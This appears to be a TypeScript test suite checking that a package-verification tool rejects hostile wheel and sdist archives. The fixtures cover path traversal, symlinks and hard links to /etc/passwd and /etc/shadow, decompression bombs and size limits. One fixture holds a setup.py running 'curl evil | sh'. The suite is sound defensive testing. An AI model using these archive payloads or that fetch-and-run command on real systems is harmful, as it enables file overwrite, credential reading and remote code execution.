import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { PyvouchError } from '../../src/errors.js';
import { extractArchive, readArchiveMembers, type ArchiveFormat } from '../../src/artifact/archive.js';
import { archiveLimits, type ArchiveLimits } from '../../src/artifact/limits.js';
import { buildTar, buildTarGz, buildZip, type TarEntrySpec, type ZipEntrySpec } from './archive-builders.js';

const MiB = 1024 * 1024;

async function readAll(format: ArchiveFormat, bytes: Buffer, name: string, limits: Partial<ArchiveLimits> = {}) {
  return readArchiveMembers(format, bytes, name, archiveLimits(limits), (m) => /(^|\/)(METADATA|PKG-INFO)$/.test(m.path));
}

/** Asserts the error is a PyvouchError with `code`, naming the archive and (when given) the member. */
async function rejectsWith(promise: Promise<unknown>, code: string, archive: string, member?: string): Promise<PyvouchError> {
  try {
    await promise;
  } catch (err) {
    assert.ok(err instanceof PyvouchError, `expected a PyvouchError, got ${String(err)}`);
    assert.equal(err.code, code, err.message);
    assert.equal(err.file, archive);
    assert.ok(err.message.startsWith(`${archive}: `), err.message);
    if (member !== undefined) assert.ok(err.message.includes(`member '${member}'`), err.message);
    return err;
  }
  assert.fail(`expected ${code}, but the archive was accepted`);
}

const wheelOk: ZipEntrySpec[] = [
  { name: 'pkg/__init__.py', data: 'x = 1\n' },
  { name: 'pkg-1.0.dist-info/METADATA', data: 'Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n' },
];

interface ZipCase {
  what: string;
  entries: ZipEntrySpec[];
  member?: string;
  limits?: Partial<ArchiveLimits>;
}

const incompressible = randomBytes(100 * 1024);

const hostileZips: ZipCase[] = [
  { what: 'a parent-directory name', entries: [{ name: '../evil.py', data: 'x' }], member: '../evil.py' },
  { what: 'a traversal inside the path', entries: [{ name: 'pkg/../../evil.py', data: 'x' }], member: 'pkg/../../evil.py' },
  { what: 'an absolute path', entries: [{ name: '/etc/cron.d/evil', data: 'x' }], member: '/etc/cron.d/evil' },
  { what: 'a drive letter', entries: [{ name: 'C:/Windows/evil.dll', data: 'x' }], member: 'C:/Windows/evil.dll' },
  { what: 'backslash separators', entries: [{ name: '..\\..\\evil.py', data: 'x' }], member: '..\\..\\evil.py' },
  { what: 'a control character in a name', entries: [{ name: 'pkg/\u001b[2Kok.py', data: 'x' }], member: 'pkg/\\u001b[2Kok.py' },
  {
    what: 'a symlink out of the tree',
    entries: [{ name: 'pkg/passwd', data: '../../etc/passwd', method: 0, mode: 0o120777 }],
    member: 'pkg/passwd',
  },
  {
    what: 'a symlink to an absolute path',
    entries: [{ name: 'pkg/passwd', data: '/etc/passwd', method: 0, mode: 0o120777 }],
    member: 'pkg/passwd',
  },
  {
    what: 'a member reached through a symlink',
    entries: [
      { name: 'pkg/up', data: '.', method: 0, mode: 0o120777 },
      { name: 'pkg/up/x.py', data: 'x' },
    ],
    member: 'pkg/up/x.py',
  },
  { what: 'a fifo', entries: [{ name: 'pkg/fifo', data: '', mode: 0o010644 }], member: 'pkg/fifo' },
  {
    what: 'a huge declared size',
    entries: [{ name: 'pkg/big.bin', data: 'tiny', method: 0, declaredSize: 0xfffffff0 }],
    member: 'pkg/big.bin',
  },
  {
    what: 'a deflate bomb (honest header, 1000:1)',
    entries: [{ name: 'pkg/zeros.bin', data: Buffer.alloc(20 * MiB) }],
    member: 'pkg/zeros.bin',
  },
  {
    what: 'a bomb whose header lies about its size (caught while inflating)',
    entries: [{ name: 'other.dist-info/METADATA', data: Buffer.alloc(20 * MiB), declaredSize: 60_000 }],
    member: 'other.dist-info/METADATA',
  },
  {
    what: 'overlapping members sharing one payload',
    entries: [
      { name: 'a.bin', data: incompressible, method: 0 },
      { name: 'b.bin', sameDataAs: 'a.bin' },
      { name: 'c.bin', sameDataAs: 'a.bin' },
    ],
    member: 'b.bin',
  },
  {
    what: 'duplicate names',
    entries: [
      { name: 'pkg/__init__.py', data: 'a' },
      { name: 'pkg/__init__.py', data: 'b' },
    ],
    member: 'pkg/__init__.py',
  },
  {
    what: 'a file shadowing an earlier directory',
    entries: [
      { name: 'pkg/sub/x.py', data: 'a' },
      { name: 'pkg/sub', data: 'b' },
    ],
    member: 'pkg/sub',
  },
  {
    what: 'members over the total limit',
    entries: [
      { name: 'a.bin', data: randomBytes(600) },
      { name: 'b.bin', data: randomBytes(600) },
    ],
    member: 'b.bin',
    limits: { maxTotalBytes: 1000 },
  },
  {
    what: 'a member over the per-member limit',
    entries: [{ name: 'a.bin', data: randomBytes(2048) }],
    member: 'a.bin',
    limits: { maxMemberBytes: 1024 },
  },
  {
    what: 'too many members',
    entries: Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.py`, data: '' })),
    limits: { maxMembers: 10 },
  },
];

describe('zip archives (wheels)', () => {
  for (const c of hostileZips) {
    it(`rejects ${c.what} with ARCHIVE_UNSAFE naming the member`, async () => {
      const bytes = buildZip([...wheelOk, ...c.entries]);
      await rejectsWith(readAll('zip', bytes, 'evil-1.0-py3-none-any.whl', c.limits), 'ARCHIVE_UNSAFE', 'evil-1.0-py3-none-any.whl', c.member);
    });
  }

  it('reads the wanted members of an honest zip and lists the others', async () => {
    const { members, files } = await readAll('zip', buildZip([{ name: 'pkg/', data: '' }, ...wheelOk]), 'pkg-1.0-py3-none-any.whl');
    assert.deepEqual(
      members.map((m) => [m.path, m.kind]),
      [
        ['pkg', 'directory'],
        ['pkg/__init__.py', 'file'],
        ['pkg-1.0.dist-info/METADATA', 'file'],
      ],
    );
    assert.deepEqual([...files.keys()], ['pkg-1.0.dist-info/METADATA']);
    assert.match(files.get('pkg-1.0.dist-info/METADATA')?.toString() ?? '', /^Metadata-Version: 2.1/);
  });

  it('accepts a symlink that stays inside the tree', async () => {
    const { members } = await readAll(
      'zip',
      buildZip([...wheelOk, { name: 'pkg/data/link', data: '../__init__.py', method: 0, mode: 0o120777 }]),
      'pkg-1.0-py3-none-any.whl',
    );
    assert.deepEqual(members.at(-1), {
      path: 'pkg/data/link',
      rawName: 'pkg/data/link',
      kind: 'symlink',
      size: 14,
      linkTarget: '../__init__.py',
    });
  });

  it('refuses a symlink target that climbs after descending, which could escape through another link', async () => {
    const bytes = buildZip([...wheelOk, { name: 'pkg/l', data: 'sub/../../..', method: 0, mode: 0o120777 }]);
    const err = await rejectsWith(readAll('zip', bytes, 'x.whl'), 'ARCHIVE_UNSAFE', 'x.whl', 'pkg/l');
    assert.match(err.message, /climbs/);
  });

  it('reports garbage, truncation and a bad CRC as ARCHIVE_INVALID', async () => {
    await rejectsWith(readAll('zip', Buffer.from('not a zip at all'), 'x.whl'), 'ARCHIVE_INVALID', 'x.whl');
    const good = buildZip(wheelOk);
    await rejectsWith(readAll('zip', good.subarray(0, good.length - 30), 'x.whl'), 'ARCHIVE_INVALID', 'x.whl');
    // Flip the CRC-32 that the central directory records for METADATA (the second entry).
    const corrupt = Buffer.from(good);
    corrupt.writeUInt32LE(0xdeadbeef, nthIndexOf(corrupt, Buffer.from([0x50, 0x4b, 0x01, 0x02]), 2) + 16);
    await rejectsWith(readAll('zip', corrupt, 'x.whl'), 'ARCHIVE_INVALID', 'x.whl');
  });
});

function nthIndexOf(haystack: Buffer, needle: Buffer, n: number): number {
  let at = -1;
  for (let i = 0; i < n; i += 1) at = haystack.indexOf(needle, at + 1);
  return at;
}

interface TarCase {
  what: string;
  entries: TarEntrySpec[];
  member?: string;
  limits?: Partial<ArchiveLimits>;
}

const sdistOk: TarEntrySpec[] = [
  { name: 'p-1.0/', type: 'directory' },
  { name: 'p-1.0/PKG-INFO', data: 'Metadata-Version: 2.2\nName: p\nVersion: 1.0\n\n' },
  { name: 'p-1.0/setup.py', data: 'from setuptools import setup\nsetup()\n' },
];

const hostileTars: TarCase[] = [
  { what: 'a parent-directory name', entries: [{ name: '../evil', data: 'x' }], member: '../evil' },
  { what: 'a traversal inside the path', entries: [{ name: 'p-1.0/../../evil', data: 'x' }], member: 'p-1.0/../../evil' },
  { what: 'an absolute path', entries: [{ name: '/etc/cron.d/evil', data: 'x' }], member: '/etc/cron.d/evil' },
  { what: 'a backslash name', entries: [{ name: 'p-1.0\\..\\..\\evil', data: 'x' }], member: 'p-1.0\\..\\..\\evil' },
  {
    what: 'a symlink out of the tree',
    entries: [{ name: 'p-1.0/etc', type: 'symlink', linkname: '../../etc' }],
    member: 'p-1.0/etc',
  },
  {
    what: 'a symlink to an absolute path',
    entries: [{ name: 'p-1.0/shadow', type: 'symlink', linkname: '/etc/shadow' }],
    member: 'p-1.0/shadow',
  },
  {
    what: 'a symlink chain escaping through another link',
    entries: [
      { name: 'p-1.0/d/l', type: 'symlink', linkname: '..' },
      { name: 'p-1.0/e', type: 'symlink', linkname: 'd/l/..' },
    ],
    member: 'p-1.0/e',
  },
  {
    what: 'a file written through a symlink',
    entries: [
      { name: 'p-1.0/sub', type: 'directory' },
      { name: 'p-1.0/link', type: 'symlink', linkname: 'sub' },
      { name: 'p-1.0/link/x.py', data: 'x' },
    ],
    member: 'p-1.0/link/x.py',
  },
  {
    what: 'a symlink replacing a directory that holds earlier members',
    entries: [
      { name: 'p-1.0/pkg/x.py', data: 'x' },
      { name: 'p-1.0/pkg', type: 'symlink', linkname: '.' },
    ],
    member: 'p-1.0/pkg',
  },
  {
    what: 'a hard link out of the tree',
    entries: [{ name: 'p-1.0/passwd', type: 'link', linkname: '../etc/passwd' }],
    member: 'p-1.0/passwd',
  },
  {
    what: 'a hard link to an absolute path',
    entries: [{ name: 'p-1.0/shadow', type: 'link', linkname: '/etc/shadow' }],
    member: 'p-1.0/shadow',
  },
  {
    what: 'a hard link to nothing in the archive',
    entries: [{ name: 'p-1.0/h', type: 'link', linkname: 'p-1.0/missing' }],
    member: 'p-1.0/h',
  },
  { what: 'a fifo', entries: [{ name: 'p-1.0/fifo', type: 'fifo' }], member: 'p-1.0/fifo' },
  { what: 'a device', entries: [{ name: 'p-1.0/tty', type: 'character-device' }], member: 'p-1.0/tty' },
  {
    what: 'duplicate names',
    entries: [{ name: 'p-1.0/setup.py', data: 'import os; os.system("curl evil | sh")' }],
    member: 'p-1.0/setup.py',
  },
  {
    what: 'a gzip bomb (20 MiB of zeros)',
    entries: [{ name: 'p-1.0/zeros.bin', zeros: 20 * MiB }],
    member: 'p-1.0/zeros.bin',
  },
  {
    what: 'a member over the per-member limit',
    entries: [{ name: 'p-1.0/big.bin', data: randomBytes(4096) }],
    member: 'p-1.0/big.bin',
    limits: { maxMemberBytes: 1024 },
  },
  {
    what: 'members over the total limit',
    entries: [
      { name: 'p-1.0/a.bin', data: randomBytes(40 * 1024) },
      { name: 'p-1.0/b.bin', data: randomBytes(40 * 1024) },
    ],
    member: 'p-1.0/b.bin',
    limits: { maxTotalBytes: 64 * 1024 },
  },
  {
    what: 'too many members',
    entries: Array.from({ length: 10 }, (_, i) => ({ name: `p-1.0/f${i}.py`, data: '' })),
    member: 'p-1.0/f7.py',
    limits: { maxMembers: 10 },
  },
  {
    what: 'a PKG-INFO too large to be metadata',
    entries: [{ name: 'q/PKG-INFO', data: randomBytes(4096) }],
    member: 'q/PKG-INFO',
    limits: { maxReadBytes: 1024 },
  },
];

describe('tar.gz archives (sdists)', () => {
  for (const c of hostileTars) {
    it(`rejects ${c.what} with ARCHIVE_UNSAFE naming the member`, async () => {
      const bytes = await buildTarGz([...sdistOk, ...c.entries]);
      await rejectsWith(readAll('tar.gz', bytes, 'p-1.0.tar.gz', c.limits), 'ARCHIVE_UNSAFE', 'p-1.0.tar.gz', c.member);
    });
  }

  it('stops a gzip bomb while inflating, long before it is fully expanded', async () => {
    const bytes = await buildTarGz([{ name: 'bomb-1.0/zeros.bin', zeros: 60 * MiB }]);
    const err = await rejectsWith(
      readAll('tar.gz', bytes, 'bomb-1.0.tar.gz', { maxMemberBytes: 100 * MiB }),
      'ARCHIVE_UNSAFE',
      'bomb-1.0.tar.gz',
      'bomb-1.0/zeros.bin',
    );
    const inflated = /expands [\d.]+:1 \(([\d.]+) MiB from/.exec(err.message);
    assert.ok(inflated?.[1] !== undefined, err.message);
    assert.ok(Number(inflated[1]) < 30, `inflated ${inflated[1]} MiB of 60 before stopping`);
  });

  it('reads an honest sdist, links included', async () => {
    const bytes = await buildTarGz([
      ...sdistOk,
      { name: 'p-1.0/docs/README', type: 'symlink', linkname: '../PKG-INFO' },
      { name: 'p-1.0/copy', type: 'link', linkname: 'p-1.0/setup.py' },
    ]);
    const { members, files } = await readAll('tar.gz', bytes, 'p-1.0.tar.gz');
    assert.deepEqual(
      members.map((m) => [m.path, m.kind, m.linkTarget]),
      [
        ['p-1.0', 'directory', undefined],
        ['p-1.0/PKG-INFO', 'file', undefined],
        ['p-1.0/setup.py', 'file', undefined],
        ['p-1.0/docs/README', 'symlink', '../PKG-INFO'],
        ['p-1.0/copy', 'hardlink', 'p-1.0/setup.py'],
      ],
    );
    assert.deepEqual([...files.keys()], ['p-1.0/PKG-INFO']);
  });

  it('normalizes ./ prefixes and ignores the root entry', async () => {
    const bytes = await buildTarGz([{ name: './', type: 'directory' }, { name: './p-1.0/PKG-INFO', data: 'x' }]);
    const { members } = await readAll('tar.gz', bytes, 'p-1.0.tar.gz');
    assert.deepEqual(
      members.map((m) => m.path),
      ['p-1.0/PKG-INFO'],
    );
  });

  it('reports garbage and truncation as ARCHIVE_INVALID', async () => {
    await rejectsWith(readAll('tar.gz', Buffer.from('not gzip'), 'x.tar.gz'), 'ARCHIVE_INVALID', 'x.tar.gz');
    const good = await buildTarGz(sdistOk);
    await rejectsWith(readAll('tar.gz', good.subarray(0, good.length / 2), 'x.tar.gz'), 'ARCHIVE_INVALID', 'x.tar.gz');
    const notTar = gzipSync(Buffer.from('hello, this is not a tar header'.repeat(40)));
    await rejectsWith(readAll('tar.gz', notTar, 'x.tar.gz'), 'ARCHIVE_INVALID', 'x.tar.gz');
  });
});

describe('extraction', () => {
  it('extracts files, directories, in-tree symlinks and hard links (as copies)', async () => {
    const dest = mkdtempSync(join(tmpdir(), 'pyvouch-extract-'));
    try {
      const bytes = await buildTarGz([
        ...sdistOk,
        { name: 'p-1.0/docs/README', type: 'symlink', linkname: '../PKG-INFO' },
        { name: 'p-1.0/copy.py', type: 'link', linkname: 'p-1.0/setup.py' },
      ]);
      await extractArchive('tar.gz', bytes, 'p-1.0.tar.gz', dest, archiveLimits());
      assert.equal(readFileSync(join(dest, 'p-1.0/copy.py'), 'utf8'), 'from setuptools import setup\nsetup()\n');
      assert.equal(readlinkSync(join(dest, 'p-1.0/docs/README')), '../PKG-INFO');
      assert.match(readFileSync(join(dest, 'p-1.0/docs/README'), 'utf8'), /^Metadata-Version/);
    } finally {
      rmSync(dest, { recursive: true, force: true });
    }
  });

  it('writes nothing outside the destination for a hostile tar, even members before the bad one', async () => {
    const parent = mkdtempSync(join(tmpdir(), 'pyvouch-extract-'));
    const dest = join(parent, 'dest');
    try {
      const { mkdirSync } = await import('node:fs');
      mkdirSync(dest);
      const bytes = await buildTar([
        { name: 'p-1.0/ok.py', data: 'ok' },
        { name: 'p-1.0/../../escaped.py', data: 'pwned' },
      ]);
      await rejectsWith(
        extractArchive('tar.gz', gzipSync(bytes), 'p-1.0.tar.gz', dest, archiveLimits()),
        'ARCHIVE_UNSAFE',
        'p-1.0.tar.gz',
        'p-1.0/../../escaped.py',
      );
      assert.equal(existsSync(join(parent, 'escaped.py')), false);
      assert.equal(existsSync(join(dest, 'escaped.py')), false);
    } finally {
      rmSync(parent, { recursive: true, force: true });
    }
  });

  it('extracts a zip (legacy sdist) the same way', async () => {
    const dest = mkdtempSync(join(tmpdir(), 'pyvouch-extract-'));
    try {
      const bytes = buildZip([
        { name: 'p-1.0/PKG-INFO', data: 'Metadata-Version: 1.0\n' },
        { name: 'p-1.0/lnk', data: 'PKG-INFO', method: 0, mode: 0o120777 },
      ]);
      const members = await extractArchive('zip', bytes, 'p-1.0.zip', dest, archiveLimits());
      assert.equal(members.length, 2);
      assert.equal(readFileSync(join(dest, 'p-1.0/lnk'), 'utf8'), 'Metadata-Version: 1.0\n');
    } finally {
      rmSync(dest, { recursive: true, force: true });
    }
  });
});
